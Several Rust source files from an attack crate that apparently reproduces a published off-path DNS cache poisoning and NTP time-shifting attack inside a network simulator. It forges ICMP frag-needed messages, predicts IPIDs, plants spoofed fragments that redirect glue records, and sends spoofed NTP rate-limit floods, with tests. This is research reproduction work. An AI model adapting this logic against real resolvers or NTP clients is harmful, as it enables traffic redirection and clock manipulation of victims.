    /// counter entirely; the window width absorbs the underestimate).
    pub fn predict_window(&self, at: SimTime, width: u16) -> Vec<u16> {
        let Some(&(last_t, last_id)) = self.samples.last() else {
            return Vec::new();
        };
        let rate = self.rate_per_sec().unwrap_or(0.0);
        let elapsed = at.saturating_since(last_t).as_secs_f64();
        let advance = (rate * elapsed * 0.8).floor() as u16;
        let base = last_id.wrapping_add(advance).wrapping_add(1);
        (0..width).map(|i| base.wrapping_add(i)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(secs: u64) -> SimTime {
        SimTime::from_secs(secs)
    }

    #[test]
    fn sequential_counter_predicted_exactly() {
        let mut p = IpidPredictor::new();
        // One probe per second, counter +1 per probe (idle server).
        for i in 0..10u64 {
            p.observe(t(i), 100 + i as u16);
        }
        let window = p.predict_window(t(10), 8);
        assert!(window.contains(&110), "window {window:?} must contain 110");
    }

    #[test]
    fn busy_counter_rate_extrapolated() {
        let mut p = IpidPredictor::new();
        // Counter advances ~50/s (busy nameserver).
        for i in 0..10u64 {
            p.observe(t(i), (i * 50) as u16);
        }
        // 4 seconds after the last sample the counter is near 450+200=650.
        let window = p.predict_window(t(13), 64);
        assert!(
            window.iter().any(|&v| (600..=700).contains(&v)),
            "window {:?}..{:?}",
            window.first(),
            window.last()
        );
        let rate = p.rate_per_sec().unwrap();
        assert!((rate - 50.0).abs() < 1.0, "rate {rate}");
    }

    #[test]
    fn wraparound_handled() {
        let mut p = IpidPredictor::new();
        p.observe(t(0), 0xFFF0);
        p.observe(t(1), 0xFFF8);
        p.observe(t(2), 0x0000);
        let rate = p.rate_per_sec().unwrap();
        assert!((rate - 8.0).abs() < 0.5, "rate {rate}");
        let window = p.predict_window(t(3), 16);
        assert!(window.contains(&0x0008), "window {window:?}");
    }

    #[test]
    fn empty_predictor_yields_empty_window() {
        let p = IpidPredictor::new();
        assert!(p.predict_window(t(5), 16).is_empty());
        assert!(p.is_empty());
        assert_eq!(p.rate_per_sec(), None);
    }

    #[test]
    fn sample_buffer_is_bounded() {
        let mut p = IpidPredictor::new();
        for i in 0..100u64 {
            p.observe(t(i), i as u16);
        }
        assert!(p.len() <= 32);
        // Still predicts correctly from the retained tail.
        let window = p.predict_window(t(100), 4);
        assert!(window.contains(&100));
    }

    #[test]
    fn out_of_order_samples_ignored() {
        let mut p = IpidPredictor::new();
        p.observe(t(5), 50);
        p.observe(t(3), 10); // late arrival: dropped
        assert_eq!(p.len(), 1);
    }
}
