//! The reusable off-path poisoning pipeline (paper §III + §IV-A).
//!
//! Drives the full chain against a victim resolver, continuously:
//!
//! 1. **Force fragmentation**: forged ICMP frag-needed to every target
//!    nameserver, claiming a small MTU towards the resolver (refreshed
//!    before the PMTU cache expires).
//! 2. **Probe**: periodic direct DNS queries to each nameserver — the
//!    responses yield both the response byte layout (for forging) and the
//!    IPID counter samples (for prediction).
//! 3. **Plant**: every 25 s (under the 30 s Linux reassembly timeout),
//!    spoofed second fragments for a window of predicted IPIDs are placed
//!    in the resolver's defragmentation cache, for every target NS.
//! 4. **Trigger** (optional): RD=1 queries to an open resolver force it to
//!    resolve `pool.ntp.org` when the cached A expires — the attacker
//!    controls query timing (§IV-A option 2/3).
//! 5. **Check** (optional): RD=0 snooping verifies whether the poisoned
//!    glue / the malicious A set has landed, so the attacker can stop.

use netsim::fasthash::FastMap;
use std::net::Ipv4Addr;

use dns::auth::DNS_PORT;
use dns::message::Message;
use dns::name::Name;
use dns::record::RecordType;
use netsim::prelude::*;
use rand::RngExt;

use crate::forge::{forge_tail, ForgedTail};
use crate::icmp_force::{forge_frag_needed, FORCED_MTU};
use crate::ipid::IpidPredictor;

/// Configuration of the poisoning pipeline.
#[derive(Debug, Clone)]
pub struct PoisonConfig {
    /// The victim resolver.
    pub resolver: Ipv4Addr,
    /// The authoritative nameservers of the pool domain.
    pub ns_targets: Vec<Ipv4Addr>,
    /// The attacker's nameserver address (glue records are rewritten to it).
    pub attacker_ns: Ipv4Addr,
    /// Prefix identifying attacker-controlled addresses (for success
    /// detection via snooping): `(network, prefix_len)`.
    pub malicious_net: (Ipv4Addr, u8),
    /// MTU forced via ICMP.
    pub forced_mtu: u16,
    /// Width of the planted IPID window.
    pub ipid_window: u16,
    /// Fragment re-planting period (< defrag timeout).
    pub plant_interval: SimDuration,
    /// NS probing period.
    pub probe_interval: SimDuration,
    /// ICMP refresh period (< PMTU cache lifetime).
    pub icmp_refresh: SimDuration,
    /// RD=0 success-check period against an open resolver (None: closed).
    pub check_interval: Option<SimDuration>,
    /// RD=1 query-trigger period against an open resolver (None: the
    /// victim's own queries are the only trigger).
    pub trigger_interval: Option<SimDuration>,
    /// The domain under attack.
    pub pool_domain: Name,
}

impl PoisonConfig {
    /// A standard configuration against an open resolver.
    pub fn open_resolver(
        resolver: Ipv4Addr,
        ns_targets: Vec<Ipv4Addr>,
        attacker_ns: Ipv4Addr,
    ) -> Self {
        PoisonConfig {
            resolver,
            ns_targets,
            attacker_ns,
            malicious_net: (Ipv4Addr::new(66, 66, 0, 0), 16),
            forced_mtu: FORCED_MTU,
            ipid_window: 16,
            plant_interval: SimDuration::from_secs(25),
            probe_interval: SimDuration::from_secs(20),
            icmp_refresh: SimDuration::from_secs(240),
            check_interval: Some(SimDuration::from_secs(30)),
            trigger_interval: Some(SimDuration::from_secs(30)),
            pool_domain: "pool.ntp.org".parse().expect("static name"),
        }
    }

    /// Same, but without trigger/check (closed resolver: only the victim's
    /// own lookups trigger resolution).
    pub fn closed_resolver(
        resolver: Ipv4Addr,
        ns_targets: Vec<Ipv4Addr>,
        attacker_ns: Ipv4Addr,
    ) -> Self {
        PoisonConfig {
            check_interval: None,
            trigger_interval: None,
            ..PoisonConfig::open_resolver(resolver, ns_targets, attacker_ns)
        }
    }

    /// True if `addr` is in the attacker's network.
    pub fn is_malicious(&self, addr: Ipv4Addr) -> bool {
        let (net, len) = self.malicious_net;
        let mask = if len == 0 { 0 } else { u32::MAX << (32 - u32::from(len)) };
        (u32::from(addr) & mask) == (u32::from(net) & mask)
    }
}

/// Counters exposed by the pipeline.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PoisonStats {
    /// Forged ICMP messages sent.
    pub icmps_sent: u64,
    /// Probe queries sent to nameservers.
    pub probes_sent: u64,
    /// Spoofed fragments planted.
    pub fragments_planted: u64,
    /// Trigger queries sent to the resolver.
    pub triggers_sent: u64,
    /// RD=0 check queries sent.
    pub checks_sent: u64,
}

#[derive(Debug, Default)]
struct TargetState {
    predictor: IpidPredictor,
    observed: Option<Vec<u8>>,
    tail: Option<ForgedTail>,
}

const PROBE_PORT: u16 = 5399;
const CONTROL_PORT: u16 = 5398;

/// The embedded poisoning engine. The owning [`Host`] forwards its
/// `on_start`/timer-tick/`on_datagram`/`on_raw_packet` events.
#[derive(Debug)]
pub struct PoisonPipeline {
    /// Configuration (public for scenario introspection).
    pub config: PoisonConfig,
    targets: FastMap<Ipv4Addr, TargetState>,
    probe_pending: FastMap<u16, Ipv4Addr>,
    control_pending: FastMap<u16, ControlQuery>,
    check_name: Option<Name>,
    last_icmp: Option<SimTime>,
    last_probe: Option<SimTime>,
    last_plant: Option<SimTime>,
    last_check: Option<SimTime>,
    last_trigger: Option<SimTime>,
    /// Set once RD=0 snooping sees poisoned glue.
    pub glue_poisoned: bool,
    /// Set once RD=0 snooping sees the malicious A set for the pool domain.
    pub fully_poisoned: bool,
    /// When the glue poisoning was first confirmed.
    pub glue_poisoned_at: Option<SimTime>,
    /// When full poisoning was first confirmed.
    pub fully_poisoned_at: Option<SimTime>,
    /// Counters.
    pub stats: PoisonStats,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ControlQuery {
    CheckGlue,
    CheckPool,
    Trigger,
}

impl PoisonPipeline {
    /// Creates the pipeline.
    pub fn new(config: PoisonConfig) -> Self {
        let targets = config.ns_targets.iter().map(|&a| (a, TargetState::default())).collect();
        PoisonPipeline {
            config,
            targets,
            probe_pending: FastMap::default(),
            control_pending: FastMap::default(),
            check_name: None,
            last_icmp: None,
            last_probe: None,
            last_plant: None,
            last_check: None,
            last_trigger: None,
            glue_poisoned: false,
            fully_poisoned: false,
            glue_poisoned_at: None,
            fully_poisoned_at: None,
            stats: PoisonStats::default(),
        }
    }

    /// Kick off: force fragmentation and start probing.
    pub fn start(&mut self, ctx: &mut Ctx<'_>) {
        self.send_icmps(ctx);
        self.send_probes(ctx);
    }

    /// Periodic driver; call every simulated second.
    pub fn tick(&mut self, ctx: &mut Ctx<'_>) {
        let now = ctx.now();
        if due(now, self.last_icmp, self.config.icmp_refresh) {
            self.send_icmps(ctx);
        }
        if due(now, self.last_probe, self.config.probe_interval) {
            self.send_probes(ctx);
        }
        if !self.fully_poisoned && due(now, self.last_plant, self.config.plant_interval) {
            self.plant(ctx);
        }
        if let Some(interval) = self.config.check_interval {
            if !self.fully_poisoned && due(now, self.last_check, interval) {
                self.send_checks(ctx);
            }
        }
        // Trigger queries serve double duty: before glue poisoning each
        // resolver re-resolution (every A-TTL expiry) is a fresh poisoning
        // opportunity; after it, the next resolution fetches the malicious
        // A set from the attacker's nameserver.
        if let Some(interval) = self.config.trigger_interval {
            if !self.fully_poisoned && due(now, self.last_trigger, interval) {
                self.send_trigger(ctx);
            }
        }
    }

    fn send_icmps(&mut self, ctx: &mut Ctx<'_>) {
        self.last_icmp = Some(ctx.now());
        let resolver = self.config.resolver;
        let mtu = self.config.forced_mtu;
        for &ns in self.config.ns_targets.iter().collect::<Vec<_>>() {
            self.stats.icmps_sent += 1;
            ctx.send_icmp(ns, forge_frag_needed(ns, resolver, mtu));
        }
    }

    fn send_probes(&mut self, ctx: &mut Ctx<'_>) {
        self.last_probe = Some(ctx.now());
        let domain = self.config.pool_domain.clone();
        for &ns in self.config.ns_targets.iter().collect::<Vec<_>>() {
            let txid: u16 = ctx.rng().random();
            let query = Message::query(txid, domain.clone(), RecordType::A, false);
            if let Ok(wire) = query.encode() {
                self.stats.probes_sent += 1;
                self.probe_pending.insert(txid, ns);
                ctx.send_udp(ns, PROBE_PORT, DNS_PORT, wire);
            }
        }
    }

    fn plant(&mut self, ctx: &mut Ctx<'_>) {
        self.last_plant = Some(ctx.now());
        let resolver = self.config.resolver;
        let window = self.config.ipid_window;
        let horizon = ctx.now() + self.config.plant_interval;
        let mut to_send = Vec::new();
        for (&ns, state) in &mut self.targets {
            let Some(tail) = &state.tail else { continue };
            // Predict the counter over the planting horizon.
            let ipids = state.predictor.predict_window(horizon, window);
            if ipids.is_empty() {
                continue;
            }
            for pkt in tail.fragments(ns, resolver, &ipids) {
                to_send.push(pkt);
            }
        }
        for pkt in to_send {
            self.stats.fragments_planted += 1;
            ctx.send_raw(pkt);
        }
    }

    fn send_checks(&mut self, ctx: &mut Ctx<'_>) {
        self.last_check = Some(ctx.now());
        let send = |pipeline: &mut Self, ctx: &mut Ctx<'_>, name: Name, kind: ControlQuery| {
            let txid: u16 = ctx.rng().random();
            // RD=0: answer from cache only — never perturbs the resolver.
            let query = Message::query(txid, name, RecordType::A, false);
            if let Ok(wire) = query.encode() {
                pipeline.stats.checks_sent += 1;
                pipeline.control_pending.insert(txid, kind);
                ctx.send_udp(pipeline.config.resolver, CONTROL_PORT, DNS_PORT, wire);
            }
        };
        if let Some(name) = self.check_name.clone() {
            if !self.glue_poisoned {
                send(self, ctx, name, ControlQuery::CheckGlue);
            }
        }
        let pool = self.config.pool_domain.clone();
        send(self, ctx, pool, ControlQuery::CheckPool);
    }

    fn send_trigger(&mut self, ctx: &mut Ctx<'_>) {
        self.last_trigger = Some(ctx.now());
        let txid: u16 = ctx.rng().random();
        let query = Message::query(txid, self.config.pool_domain.clone(), RecordType::A, true);
        if let Ok(wire) = query.encode() {
            self.stats.triggers_sent += 1;
            self.control_pending.insert(txid, ControlQuery::Trigger);
            ctx.send_udp(self.config.resolver, CONTROL_PORT, DNS_PORT, wire);
        }
    }

    /// Raw tap: harvest IPIDs from nameserver responses.
    pub fn handle_raw(&mut self, now: SimTime, pkt: &netsim::ipv4::Ipv4Packet) {
        if pkt.is_fragment() {
            return;
        }
        if let Some(state) = self.targets.get_mut(&pkt.src) {
            state.predictor.observe(now, pkt.id);
        }
    }

    /// Datagram handling; returns `true` if the datagram belonged to the
    /// pipeline.
    pub fn handle_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) -> bool {
        match d.dst_port {
            PROBE_PORT => {
                let Ok(msg) = Message::decode(&d.payload) else { return true };
                if !msg.header.qr || self.probe_pending.remove(&msg.header.id).is_none() {
                    return true;
                }
                if let Some(state) = self.targets.get_mut(&d.src) {
                    let bytes = d.payload.to_vec();
                    if state.observed.as_deref() != Some(bytes.as_slice()) {
                        state.tail =
                            forge_tail(&bytes, self.config.forced_mtu, self.config.attacker_ns)
                                .ok();
                        if let Some(tail) = &state.tail {
                            if self.check_name.is_none() {
                                self.check_name = tail.poisoned_names.first().cloned();
                            }
                        }
                        state.observed = Some(bytes);
                    }
                }
                true
            }
            CONTROL_PORT => {
                let Ok(msg) = Message::decode(&d.payload) else { return true };
                let Some(kind) = self.control_pending.remove(&msg.header.id) else { return true };
                let addrs = msg.answer_addrs();
                match kind {
                    ControlQuery::CheckGlue => {
                        if addrs.contains(&self.config.attacker_ns) {
                            self.glue_poisoned = true;
                            self.glue_poisoned_at.get_or_insert(ctx.now());
                        }
                    }
                    ControlQuery::CheckPool | ControlQuery::Trigger => {
                        if !addrs.is_empty() && addrs.iter().all(|&a| self.config.is_malicious(a)) {
                            self.glue_poisoned = true;
                            self.glue_poisoned_at.get_or_insert(ctx.now());
                            self.fully_poisoned = true;
                            self.fully_poisoned_at.get_or_insert(ctx.now());
                        }
                    }
                }
                true
            }
            _ => false,
        }
    }
}

fn due(now: SimTime, last: Option<SimTime>, interval: SimDuration) -> bool {
    match last {
        None => true,
        Some(t) => now.saturating_since(t) >= interval,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn malicious_net_matching() {
        let config = PoisonConfig::open_resolver(
            "10.0.0.53".parse().unwrap(),
            vec!["198.51.100.1".parse().unwrap()],
            "66.66.66.66".parse().unwrap(),
        );
        assert!(config.is_malicious("66.66.1.2".parse().unwrap()));
        assert!(!config.is_malicious("66.67.1.2".parse().unwrap()));
        assert!(!config.is_malicious("192.0.2.1".parse().unwrap()));
    }

    #[test]
    fn due_helper() {
        let t0 = SimTime::from_secs(100);
        assert!(due(t0, None, SimDuration::from_secs(10)));
        assert!(!due(t0, Some(SimTime::from_secs(95)), SimDuration::from_secs(10)));
        assert!(due(t0, Some(SimTime::from_secs(90)), SimDuration::from_secs(10)));
    }
}
