//! The run-time attack host (paper §IV-B): rate-limit abuse to break the
//! victim's existing associations, combined with the poisoning pipeline so
//! that the victim's replacement DNS lookup lands on attacker servers.
//!
//! Two knowledge scenarios from §V-A2 / §V-B:
//!
//! * **P1** — the attacker knows the candidate upstream set up front (it
//!   can enumerate `pool.ntp.org`, §IV-B2a) and floods all of them at once.
//! * **P2** — the attacker discovers upstreams one at a time through the
//!   victim's refid leak (§IV-B2b) and extends the flood set as it learns.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use netsim::prelude::*;
use ntp::packet::{peek_mode, NtpMode, NtpPacket, NTP_PORT};
use ntp::timestamp::NtpTimestamp;

use crate::pipeline::{PoisonConfig, PoisonPipeline, PoisonStats};

const TICK: TimerToken = 1;

/// How the attacker learns the victim's upstream servers.
#[derive(Debug, Clone)]
pub enum RuntimeScenario {
    /// P1: flood this whole candidate set from the start.
    KnownUpstreams {
        /// The candidate upstream servers (the enumerated pool).
        servers: Vec<Ipv4Addr>,
    },
    /// P2: probe the victim's refid periodically, flood what it reveals.
    RefidDiscovery {
        /// Interval between refid probes.
        probe_interval: SimDuration,
    },
}

impl RuntimeScenario {
    /// A stable machine-readable name for records and campaign streams
    /// ("known-upstreams" for P1, "refid-discovery" for P2).
    pub fn label(&self) -> &'static str {
        match self {
            RuntimeScenario::KnownUpstreams { .. } => "known-upstreams",
            RuntimeScenario::RefidDiscovery { .. } => "refid-discovery",
        }
    }
}

/// Counters exposed by the [`RuntimeAttacker`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RuntimeStats {
    /// Spoofed rate-limit queries sent.
    pub spoofed_queries: u64,
    /// Refid probes sent.
    pub refid_probes: u64,
    /// Distinct upstreams discovered (P2).
    pub upstreams_discovered: u64,
}

/// The run-time attacker host.
#[derive(Debug)]
pub struct RuntimeAttacker {
    /// Embedded poisoning pipeline.
    pub pipeline: PoisonPipeline,
    victim: Ipv4Addr,
    scenario: RuntimeScenario,
    flood_targets: BTreeSet<Ipv4Addr>,
    flood_interval: SimDuration,
    last_probe: Option<SimTime>,
    /// Counters.
    pub stats: RuntimeStats,
}

impl RuntimeAttacker {
    /// Creates the attacker: poisoning per `poison`, association breaking
    /// against `victim` per `scenario`.
    pub fn new(poison: PoisonConfig, victim: Ipv4Addr, scenario: RuntimeScenario) -> Self {
        let flood_targets = match &scenario {
            RuntimeScenario::KnownUpstreams { servers } => servers.iter().copied().collect(),
            RuntimeScenario::RefidDiscovery { .. } => BTreeSet::new(),
        };
        RuntimeAttacker {
            pipeline: PoisonPipeline::new(poison),
            victim,
            scenario,
            flood_targets,
            flood_interval: SimDuration::from_millis(500),
            last_probe: None,
            stats: RuntimeStats::default(),
        }
    }

    /// Servers currently being flooded.
    pub fn flood_targets(&self) -> Vec<Ipv4Addr> {
        self.flood_targets.iter().copied().collect()
    }

    /// Pipeline counters.
    pub fn poison_stats(&self) -> PoisonStats {
        self.pipeline.stats
    }

    fn flood(&mut self, ctx: &mut Ctx<'_>) {
        // Spoofed mode-3 queries with the victim's source address: the
        // server's limiter attributes them to the victim and silences it.
        let t = NtpTimestamp::at_sim_time(ctx.now());
        let payload = NtpPacket::client_request(t).encode();
        for &server in self.flood_targets.iter().collect::<Vec<_>>() {
            self.stats.spoofed_queries += 1;
            ctx.send_udp_spoofed(self.victim, server, NTP_PORT, NTP_PORT, payload.clone());
        }
    }

    fn probe_refid(&mut self, ctx: &mut Ctx<'_>) {
        self.stats.refid_probes += 1;
        let t = NtpTimestamp::at_sim_time(ctx.now());
        ctx.send_udp(self.victim, NTP_PORT, NTP_PORT, NtpPacket::client_request(t).encode());
    }
}

impl Host for RuntimeAttacker {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.pipeline.start(ctx);
        ctx.set_timer(self.flood_interval, TICK);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: TimerToken) {
        if token != TICK {
            return;
        }
        let now = ctx.now();
        self.flood(ctx);
        // The 1 Hz pipeline work rides the same timer (it self-limits via
        // its internal intervals).
        self.pipeline.tick(ctx);
        if let RuntimeScenario::RefidDiscovery { probe_interval } = self.scenario {
            let due =
                self.last_probe.map(|t| now.saturating_since(t) >= probe_interval).unwrap_or(true);
            if due {
                self.last_probe = Some(now);
                self.probe_refid(ctx);
            }
        }
        ctx.set_timer(self.flood_interval, TICK);
    }

    fn on_raw_packet(&mut self, ctx: &mut Ctx<'_>, pkt: &netsim::ipv4::Ipv4Packet) -> bool {
        self.pipeline.handle_raw(ctx.now(), pkt);
        false
    }

    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        if self.pipeline.handle_datagram(ctx, d) {
            return;
        }
        // Refid probe responses from the victim.
        if d.src == self.victim
            && d.dst_port == NTP_PORT
            && peek_mode(&d.payload) == Some(NtpMode::Server)
        {
            if let Ok(resp) = NtpPacket::decode(&d.payload) {
                if let Some(upstream) = resp.upstream_addr() {
                    if !upstream.is_unspecified() && self.flood_targets.insert(upstream) {
                        self.stats.upstreams_discovered += 1;
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn p1_floods_known_servers_immediately() {
        let servers: Vec<Ipv4Addr> = (1..=4).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let attacker = RuntimeAttacker::new(
            PoisonConfig::closed_resolver(
                "10.0.0.53".parse().unwrap(),
                vec!["198.51.100.1".parse().unwrap()],
                "66.66.0.1".parse().unwrap(),
            ),
            "10.0.0.100".parse().unwrap(),
            RuntimeScenario::KnownUpstreams { servers: servers.clone() },
        );
        assert_eq!(attacker.flood_targets(), servers);
    }

    #[test]
    fn p2_starts_with_empty_flood_set() {
        let attacker = RuntimeAttacker::new(
            PoisonConfig::closed_resolver(
                "10.0.0.53".parse().unwrap(),
                vec!["198.51.100.1".parse().unwrap()],
                "66.66.0.1".parse().unwrap(),
            ),
            "10.0.0.100".parse().unwrap(),
            RuntimeScenario::RefidDiscovery { probe_interval: SimDuration::from_secs(60) },
        );
        assert!(attacker.flood_targets().is_empty());
    }
}
