//! # attack — the off-path attacker toolkit
//!
//! Implements the attack chain of *"The Impact of DNS Insecurity on Time"*
//! (DSN 2020) against the simulated DNS/NTP substrate:
//!
//! * [`icmp_force`] — forged ICMP frag-needed to make nameservers fragment
//!   their responses (§III-1);
//! * [`ipid`] — IPID counter sampling and extrapolation (§III-2);
//! * [`wire_walk`] / [`forge`] — crafting the spoofed second fragment that
//!   rewrites the glue records to the attacker's nameserver (§III-2);
//! * [`checksum_fix`] — the ones'-complement fix-up keeping the UDP
//!   checksum valid (§III-3, `f2' = f2* − (sum1(f2*) − sum1(f2))`);
//! * [`pipeline`] — the recurring force/probe/plant/trigger/check loop
//!   (§IV-A's "plant every 30 s until the query happens");
//! * [`poisoner`] — the boot-time / Chronos attacker host;
//! * [`runtime`] — the run-time attacker host adding NTP rate-limit abuse
//!   (§IV-B) in scenarios P1 (known upstreams) and P2 (refid discovery).
//!
//! The end-to-end poisoning path is exercised in
//! [`poisoner`]'s tests and the repository's integration tests.

#![warn(missing_docs)]

pub mod checksum_fix;
pub mod forge;
pub mod icmp_force;
pub mod ipid;
pub mod pipeline;
pub mod poisoner;
pub mod runtime;
pub mod wire_walk;

/// Commonly used types.
pub mod prelude {
    pub use crate::checksum_fix::{fix_fragment_sum, sums_match, FixError};
    pub use crate::forge::{first_fragment_payload, forge_tail, ForgeError, ForgedTail};
    pub use crate::icmp_force::{forge_frag_needed, FORCED_MTU};
    pub use crate::ipid::IpidPredictor;
    pub use crate::pipeline::{PoisonConfig, PoisonPipeline, PoisonStats};
    pub use crate::poisoner::OffPathPoisoner;
    pub use crate::runtime::{RuntimeAttacker, RuntimeScenario, RuntimeStats};
    pub use crate::wire_walk::{glue_spans, walk_records, RecordSpan, Section};
}
