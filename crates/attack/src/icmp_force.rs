//! Forging ICMP Fragmentation-Needed to force a nameserver to fragment
//! (paper §III-1).
//!
//! The attacker tells the nameserver that the path towards the victim
//! resolver only supports a small MTU. The embedded "original datagram"
//! header is fabricated: a plausible UDP packet from the nameserver (port
//! 53) to the resolver. Upon receipt the nameserver's stack records the
//! path MTU and fragments subsequent DNS responses to the resolver.

use std::net::Ipv4Addr;

use bytes::Bytes;
use netsim::icmp::IcmpMessage;
use netsim::ipv4::Ipv4Packet;
use netsim::udp::UdpDatagram;

/// The MTU the paper's attack forces (the common minimum the measured
/// nameservers honour — Fig. 5's 83.2 % step).
pub const FORCED_MTU: u16 = 548;

/// Builds the forged ICMP frag-needed message claiming that a DNS response
/// from `nameserver` to `resolver` did not fit into `mtu` bytes.
///
/// The embedded original is a syntactically valid IPv4 header + 8 UDP
/// header bytes (sport 53), which is all RFC 792 requires and all real
/// stacks check.
pub fn forge_frag_needed(nameserver: Ipv4Addr, resolver: Ipv4Addr, mtu: u16) -> IcmpMessage {
    let stub_udp = UdpDatagram::new(53, 33_000, Bytes::new())
        .encode(nameserver, resolver)
        .expect("8-byte datagram encodes");
    let embedded = Ipv4Packet::udp(nameserver, resolver, 0, stub_udp)
        .encode()
        .expect("28-byte packet encodes");
    IcmpMessage::FragmentationNeeded { mtu, original: embedded }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::os::OsProfile;
    use netsim::sim::NetStack;
    use netsim::time::SimTime;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);
    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);

    #[test]
    fn forged_icmp_lowers_ns_path_mtu() {
        let mut stack = NetStack::new(OsProfile::nameserver(548));
        let mut rng = SmallRng::seed_from_u64(1);
        // Deliver the forged ICMP to the nameserver's stack.
        let msg = forge_frag_needed(NS, RESOLVER, FORCED_MTU);
        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
        let out = stack.receive(SimTime::ZERO, pkt);
        assert!(out.is_some(), "ICMP must reach the host layer");
        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), FORCED_MTU);
        // A large DNS response towards the resolver now fragments.
        let big = UdpDatagram::new(53, 33000, Bytes::from(vec![0u8; 900]));
        let frags = stack.send_udp(SimTime::ZERO, NS, RESOLVER, &big, &mut rng);
        assert_eq!(frags.len(), 2, "900-byte payload fragments in two at MTU 548");
        assert!(frags.iter().all(|f| f.wire_len() <= usize::from(FORCED_MTU)));
    }

    #[test]
    fn claim_below_ns_floor_is_clamped() {
        let mut stack = NetStack::new(OsProfile::nameserver(548));
        let msg = forge_frag_needed(NS, RESOLVER, 68);
        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
        stack.receive(SimTime::ZERO, pkt);
        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), 548);
    }

    #[test]
    fn icmp_with_foreign_embedded_source_ignored() {
        // The embedded original claims someone ELSE sent the too-big packet:
        // the nameserver must not update its own path MTU.
        let mut stack = NetStack::new(OsProfile::nameserver(548));
        let msg = forge_frag_needed("203.0.113.9".parse().unwrap(), RESOLVER, FORCED_MTU);
        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
        stack.receive(SimTime::ZERO, pkt);
        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), 1500);
    }

    #[test]
    fn pmtud_ignoring_ns_unaffected() {
        let mut stack = NetStack::new(OsProfile::nameserver_no_pmtud());
        let msg = forge_frag_needed(NS, RESOLVER, FORCED_MTU);
        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
        stack.receive(SimTime::ZERO, pkt);
        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), 1500);
    }
}
