//! The off-path poisoning attacker host — the boot-time attack of §IV-A
//! and the first stage of both the run-time (§IV-B) and Chronos (§VI)
//! attacks.
//!
//! This host wraps a [`PoisonPipeline`] in a 1 Hz driver loop. Once the
//! victim resolver's glue is poisoned, all further `pool.ntp.org`
//! resolutions land on the attacker's nameserver, which serves
//! attacker-controlled NTP server addresses with a long TTL. Any NTP client
//! booting behind that resolver then takes time from the attacker.

use netsim::prelude::*;

use crate::pipeline::{PoisonConfig, PoisonPipeline, PoisonStats};

const TICK: TimerToken = 1;

/// The off-path poisoning attacker.
#[derive(Debug)]
pub struct OffPathPoisoner {
    /// The embedded pipeline (public for scenario inspection).
    pub pipeline: PoisonPipeline,
}

impl OffPathPoisoner {
    /// Creates the attacker host.
    pub fn new(config: PoisonConfig) -> Self {
        OffPathPoisoner { pipeline: PoisonPipeline::new(config) }
    }

    /// True once the resolver serves attacker glue.
    pub fn glue_poisoned(&self) -> bool {
        self.pipeline.glue_poisoned
    }

    /// True once the resolver serves the attacker's pool A records.
    pub fn fully_poisoned(&self) -> bool {
        self.pipeline.fully_poisoned
    }

    /// Pipeline counters.
    pub fn stats(&self) -> PoisonStats {
        self.pipeline.stats
    }
}

impl Host for OffPathPoisoner {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.pipeline.start(ctx);
        ctx.set_timer(SimDuration::from_secs(1), TICK);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: TimerToken) {
        if token == TICK {
            self.pipeline.tick(ctx);
            ctx.set_timer(SimDuration::from_secs(1), TICK);
        }
    }

    fn on_raw_packet(&mut self, ctx: &mut Ctx<'_>, pkt: &netsim::ipv4::Ipv4Packet) -> bool {
        self.pipeline.handle_raw(ctx.now(), pkt);
        false
    }

    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        self.pipeline.handle_datagram(ctx, d);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dns::prelude::*;
    use std::net::Ipv4Addr;

    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
    const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
    const ATTACKER_NS: Ipv4Addr = Ipv4Addr::new(66, 66, 0, 1);

    /// Full off-path boot-time poisoning, end to end through the simulator:
    /// ICMP MTU forcing → IPID probing → fragment planting → triggered
    /// resolution → glue poisoning → redirected re-resolution → malicious
    /// pool A set in the resolver cache.
    #[test]
    fn end_to_end_glue_then_full_poisoning() {
        let mut sim = Simulator::with_topology(
            42,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(15))),
        );
        let pool_servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(pool_servers, 23, Ipv4Addr::new(198, 51, 100, 1));
        let ns_list = spawn_zone_nameservers(&mut sim, &zone, OsProfile::nameserver(548));
        sim.add_host(
            RESOLVER,
            OsProfile::linux(),
            Box::new(Resolver::new(
                ResolverConfig::default(),
                vec![("pool.ntp.org".parse().unwrap(), ns_list.clone())],
            )),
        )
        .unwrap();
        // Attacker's malicious nameserver (what the poisoned glue points to).
        let malicious: Vec<Ipv4Addr> =
